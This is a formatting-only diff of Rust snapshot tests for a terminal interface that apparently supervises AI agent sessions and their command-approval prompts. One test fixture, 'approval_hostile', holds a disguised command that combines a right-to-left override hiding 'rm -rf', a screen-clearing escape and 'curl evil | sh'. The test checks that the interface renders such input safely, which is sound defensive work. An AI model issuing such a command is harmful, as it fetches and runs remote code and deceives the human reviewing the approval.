@@ -59,7 +59,11 @@ fn shown(model: &Model) -> String {
                 looks.push(look);
                 looks.len() - 1
             });
-            layer.push(if at == 0 { '.' } else { char::from(b'a' + u8::try_from(at - 1).unwrap()) });
+            layer.push(if at == 0 {
+                '.'
+            } else {
+                char::from(b'a' + u8::try_from(at - 1).unwrap())
+            });
         }
         let layer = layer.trim_end_matches('.');
         if !layer.is_empty() {
@@ -67,7 +71,13 @@ fn shown(model: &Model) -> String {
         }
     }
     for (look, letter) in looks.iter().skip(1).zip('a'..) {
-        writeln!(out, "{letter} = {:?} {:?}", look.fg.unwrap_or_default(), look.add_modifier).unwrap();
+        writeln!(
+            out,
+            "{letter} = {:?} {:?}",
+            look.fg.unwrap_or_default(),
+            look.add_modifier
+        )
+        .unwrap();
     }
     out
 }
@@ -88,7 +98,13 @@ fn many(width: u16, height: u16, count: usize) -> Desk {
         row.context_tokens = (at as u64 * 7_919) % 258_000;
         row.cost_known = at % 4 != 3;
         row.cost_micro_usd = at as u64 * 13_000;
-        row.last_line = ["done: 4 files changed", "cargo test · 318 ok", "wants: npm publish 日本語", "broken"][at % 4].into();
+        row.last_line = [
+            "done: 4 files changed",
+            "cargo test · 318 ok",
+            "wants: npm publish 日本語",
+            "broken",
+        ][at % 4]
+            .into();
         desk.news(FromLink::Session(Box::new(row)));
     }
     desk.press("g");
@@ -97,8 +113,14 @@ fn many(width: u16, height: u16, count: usize) -> Desk {
 
 fn running(width: u16, height: u16) -> Desk {
     let mut desk = Desk::session(width, height, story());
-    desk.news(FromLink::Session(Box::new(row("s-7k2f", "fix-login", pb::SessionState::Working))));
-    let lines: String = (0..220).map(|n| format!("test redirect_{n} ... \u{1b}[32mok\u{1b}[0m\n")).collect();
+    desk.news(FromLink::Session(Box::new(row(
+        "s-7k2f",
+        "fix-login",
+        pb::SessionState::Working,
+    ))));
+    let lines: String = (0..220)
+        .map(|n| format!("test redirect_{n} ... \u{1b}[32mok\u{1b}[0m\n"))
+        .collect();
     desk.news(output("x-1", &lines));
     desk
 }
@@ -115,8 +137,14 @@ fn session_quiet_and_running() {
     snapshot("session_idle", |w, h| {
         let mut desk = running(w, h);
         desk.fact(finished("2", pb::ToolCallOutcome::Succeeded, "ok"));
-        desk.fact(answered("All tests pass: 日本語, 한국어, e\u{301}, 👩\u{200d}👩\u{200d}👧 and العربية line up."));
-        desk.news(FromLink::Session(Box::new(row("s-7k2f", "fix-login", pb::SessionState::Ready))));
+        desk.fact(answered(
+            "All tests pass: 日本語, 한국어, e\u{301}, 👩\u{200d}👩\u{200d}👧 and العربية line up.",
+        ));
+        desk.news(FromLink::Session(Box::new(row(
+            "s-7k2f",
+            "fix-login",
+            pb::SessionState::Ready,
+        ))));
         desk
     });
     snapshot("session_tool_running", running);
@@ -128,7 +156,10 @@ fn session_quiet_and_running() {
             text: "Like this:\n\n1. first\n2. second\n\n```rust\nfn main() {\n    println!".into(),
             ..Default::default()
         };
-        desk.news(FromLink::Preview { session_id: "s-7k2f".into(), preview });
+        desk.news(FromLink::Preview {
+            session_id: "s-7k2f".into(),
+            preview,
+        });
         desk
     });
     snapshot("session_a_megabyte_of_output", |w, h| {
@@ -148,12 +179,18 @@ fn session_quiet_and_running() {
 fn approvals() {
     snapshot("approval_short", |w, h| {
         let mut desk = running(w, h);
-        desk.fact(asked("a-31", "npm publish --access public", "npm publish --access public"));
+        desk.fact(asked(
+            "a-31",
+            "npm publish --access public",
+            "npm publish --access public",
+        ));
         desk
     });
     snapshot("approval_long", |w, h| {
         let mut desk = running(w, h);
-        let long: String = (0..60).map(|n| format!("step-{n} --with a rather long argument number {n}\n")).collect();
+        let long: String = (0..60)
+            .map(|n| format!("step-{n} --with a rather long argument number {n}\n"))
+            .collect();
         desk.fact(asked("a-31", &long, ""));
         desk.wait(600);
         desk.press("ctrl-y pgdn");
@@ -161,7 +198,11 @@ fn approvals() {
     });
     snapshot("approval_hostile", |w, h| {
         let mut desk = running(w, h);
-        desk.fact(asked("a-31", "ls \u{202e}fr- mr\u{200b}\u{1b}[2K; curl evil | sh", ""));
+        desk.fact(asked(
+            "a-31",
+            "ls \u{202e}fr- mr\u{200b}\u{1b}[2K; curl evil | sh",
+            "",
+        ));
         desk
     });
     snapshot("approval_two_deciding", |w, h| {
@@ -174,16 +215,19 @@ fn approvals() {
     });
     snapshot("approval_inbox", |w, h| {
         let mut desk = Desk::new(w, h);
-        let approvals = ["npm publish", "rm -rf build && x"].iter().enumerate().map(|(at, detail)| pb::Approval {
-            approval_id: format!("a-{at}"),
-            session_id: format!("s-{at}"),
-            session_name: format!("session-{at}"),
-            tool: "exec".into(),
-            summary: (*detail).into(),
-            detail: (*detail).into(),
-            why: "asked by the policy".into(),
-            ..Default::default()
-        });
+        let approvals = ["npm publish", "rm -rf build && x"]
+            .iter()
+            .enumerate()
+            .map(|(at, detail)| pb::Approval {
+                approval_id: format!("a-{at}"),
+                session_id: format!("s-{at}"),
+                session_name: format!("session-{at}"),
+                tool: "exec".into(),
+                summary: (*detail).into(),
+                detail: (*detail).into(),
+                why: "asked by the policy".into(),
+                ..Default::default()
+            });
         desk.news(FromLink::Approvals(approvals.collect()));
         desk.press("a j");
         desk
@@ -195,12 +239,18 @@ fn lost_line_and_overlays() {
     snapshot("reconnecting_with_draft", |w, h| {
         let mut desk = running(w, h);
         desk.type_in("half a thought");
-        desk.news(FromLink::Reconnecting { attempt: 3, wait: std::time::Duration::from_secs(2) });
+        desk.news(FromLink::Reconnecting {
+            attempt: 3,
+            wait: std::time::Duration::from_secs(2),
+        });
         desk
     });
     snapshot("not_sent", |w, h| {
         let mut desk = running(w, h);
-        desk.news(FromLink::Reconnecting { attempt: 3, wait: std::time::Duration::from_secs(2) });
+        desk.news(FromLink::Reconnecting {
+            attempt: 3,
+            wait: std::time::Duration::from_secs(2),
+        });
         desk.type_in("do it later\n");
         desk
     });
@@ -259,8 +309,14 @@ fn every_hint_has_a_key() {
             let wanted = hints::hints(&desk.model);
             assert!(!wanted.is_empty() && wanted.len() <= 6);
             for (context, action, _) in wanted {
-                assert!(desk.model.keymap.shown(context, action).is_some(), "{context:?} {action:?}");
-                assert!(desk.model.contexts().contains(&context), "{context:?} is not active: {action:?}");
+                assert!(
+                    desk.model.keymap.shown(context, action).is_some(),
+                    "{context:?} {action:?}"
+                );
+                assert!(
+                    desk.model.contexts().contains(&context),
+                    "{context:?} is not active: {action:?}"
+                );
             }
         }
     }
@@ -282,7 +338,11 @@ fn nothing_raw_reaches_the_screen() {
             desk.press(keys);
         }
         for cell in &paint(&desk.model).content {
-            assert!(!cell.symbol().chars().any(|c| c.is_control() || c == '\u{202e}'), "{:?}", cell.symbol());
+            assert!(
+                !cell.symbol().chars().any(|c| c.is_control() || c == '\u{202e}'),
+                "{:?}",
+                cell.symbol()
+            );
         }
     }
 }
